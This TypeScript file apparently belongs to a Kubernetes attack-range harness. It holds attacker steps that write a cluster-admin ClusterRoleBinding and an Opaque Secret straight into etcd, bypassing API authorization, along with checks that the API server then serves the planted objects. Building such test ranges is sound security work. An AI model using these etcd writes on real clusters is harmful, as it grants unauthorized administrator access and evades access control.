/** A right that an attacker grants itself where no authorizer looks: straight in the store. */
import { secretKey } from '../attacker/reach-goal.ts'
import type { Loot, World } from '../attacker/world.ts'
import type { Operator } from '../cluster/operator.ts'
import { StatusError } from '../kube/client.ts'
import type { KubeObject } from '../kube/object.ts'
import type { Staged } from './scenario.ts'

const UID = '00000000-0000-4000-8000-000000000000'

/** kube-apiserver serves an object that lies in etcd as JSON (recorded), whoever wrote it. */
export function clusterAdminBinding(mark: string): { key: string; value: string; object: object } {
  const name = nameFor(mark)
  const binding = {
    apiVersion: 'rbac.authorization.k8s.io/v1',
    kind: 'ClusterRoleBinding',
    metadata: { name, uid: UID, creationTimestamp: '2026-01-01T00:00:00Z' },
    subjects: [{ kind: 'User', apiGroup: 'rbac.authorization.k8s.io', name: mark }],
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
  }
  return { key: `/registry/clusterrolebindings/${name}`, value: JSON.stringify(binding), object: binding }
}

/** Writes the binding into the store, past everything that would ask whether it may. */
export async function putClusterAdminBinding(world: World): Promise<Loot> {
  const { key, value } = clusterAdminBinding(world.mark)
  const etcd = await world.etcd(world.network.etcd[0] ?? '')
  await etcd.put(key, value)
  return []
}

/** Asks the API for the binding. */
export async function postClusterAdminBinding(world: World): Promise<Loot> {
  const path = '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings'
  return [(await world.api({ method: 'POST', path, body: clusterAdminBinding(world.mark).object })).body]
}

/** Whether the API serves the binding as an administrator sees it. */
export async function isBound(operator: Operator, _staged: Staged, mark: string): Promise<boolean> {
  const path = `/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/${nameFor(mark)}`
  const binding = (await readable(operator, path)) as { subjects?: { name?: string }[] } | undefined
  return binding?.subjects?.some(({ name }) => name === mark) ?? false
}

/** Writes a Secret that holds the mark into the store, in plain. */
export async function putSecret(world: World): Promise<Loot> {
  const { namespace } = world.goal
  const name = nameFor(world.mark)
  const secret = {
    apiVersion: 'v1',
    kind: 'Secret',
    metadata: { name, namespace, uid: UID, creationTimestamp: '2026-01-01T00:00:00Z' },
    data: { value: Buffer.from(world.mark).toString('base64') },
    type: 'Opaque',
  }
  const etcd = await world.etcd(world.network.etcd[0] ?? '')
  await etcd.put(secretKey({ namespace, secret: name }), JSON.stringify(secret))
  return []
}

/** Whether the API serves the Secret. */
export async function isPlanted(operator: Operator, { namespace }: Staged, mark: string): Promise<boolean> {
  const secret = await readable(operator, `/api/v1/namespaces/${namespace}/secrets/${nameFor(mark)}`)
  return valueOf(secret) === mark
}

/** The value of a Secret as the range stages it. */
export function valueOf(secret: KubeObject | undefined): string | undefined {
  const { value } = (secret?.['data'] ?? {}) as { value?: string }
  return value === undefined ? undefined : Buffer.from(value, 'base64').toString()
}

/** The object, or undefined where there is none that the API can read: nobody is given what it cannot. */
async function readable(operator: Operator, path: string): Promise<KubeObject | undefined> {
  return operator.find(path).catch((error: unknown) => {
    if (error instanceof StatusError && error.status === 500) return undefined
    throw error
  })
}

/** Object names are lower case; the mark itself stands in the subject. */
function nameFor(mark: string): string {
  return `range-${Buffer.from(mark).toString('hex').slice(0, 40)}`
}
